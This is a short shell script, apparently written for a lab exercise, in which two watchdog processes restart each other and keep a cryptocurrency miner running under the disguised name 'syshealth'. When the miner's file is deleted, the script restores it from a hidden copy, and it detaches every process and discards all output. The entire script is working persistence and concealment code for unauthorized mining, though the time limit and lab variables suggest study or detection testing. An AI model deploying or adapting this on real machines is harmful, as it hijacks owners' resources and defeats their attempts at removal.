#!/bin/sh
# watchdog.sh FOLDER a|b END: one half of a pair. Each starts the other again when it is gone, and `a` also
# keeps the miner running, from a hidden copy when its file is missing. END is a unix time; both stop then. LAB_PROGRAM, usually empty, is a script for the miner.
folder=$1 me=$2 end=$3
other=b
[ "$me" = b ] && other=a
echo $$ >"$folder/.$me"
# busybox takes an empty argument of kill for 0, the caller's own group.
alive() { [ -s "$folder/.$1" ] && kill -0 "$(cat "$folder/.$1" 2>/dev/null)" 2>/dev/null; }
while [ "$(date +%s)" -lt "$end" ]; do
  alive $other || {
    setsid sh "$0" "$folder" $other "$end" </dev/null >/dev/null 2>&1 &
    sleep 1
  }
  [ "$me" = b ] || alive m || {
    [ -x "$folder/syshealth" ] || cp "$folder/.copy" "$folder/syshealth"
    setsid "$folder/syshealth" $LAB_PROGRAM -o "$LAB_POOL" </dev/null >/dev/null 2>&1 &
    echo $! >"$folder/.m"
  }
  sleep 1
done
